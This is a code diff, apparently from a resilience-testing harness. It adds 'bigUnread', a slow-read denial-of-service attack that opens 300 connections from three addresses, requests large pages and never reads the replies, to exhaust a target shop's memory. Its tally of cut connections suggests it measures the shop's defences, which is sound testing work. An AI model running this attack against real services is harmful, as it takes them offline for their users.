@@ -127,3 +127,32 @@ export const slowReaders: Attack = {
     return { got: tally.toString(), broken: [] };
   },
 };
+
+const BIG = ['/', '/ta/', '/api/openapi.json', '/api/product/list1'];
+
+async function leaveUnread(
+  url: string,
+  address: string,
+  loop: number,
+  signal: AbortSignal,
+  tally: Tally,
+): Promise<void> {
+  const socket = await open(url, address);
+  socket.pause();
+  socket.write(request(BIG[loop % BIG.length] as string).repeat(8));
+  tally.add('opened');
+  await Promise.race([over(socket, signal), pause(3_000)]);
+  if (socket.destroyed) tally.add('cut by the shop');
+  socket.destroy();
+}
+
+/** The system of the shop takes megabytes of each before anybody notices that nobody reads. */
+export const bigUnread: Attack = {
+  id: '1e',
+  what: '300 connections of 3 addresses that ask for big answers as they are, read nothing and come again',
+  async run(shop, signal) {
+    const tally = new Tally();
+    await keepOn(signal, 300, (loop) => leaveUnread(shop.url, attackerAddress(loop % 3), loop, signal, tally));
+    return { got: tally.toString(), broken: [] };
+  },
+};
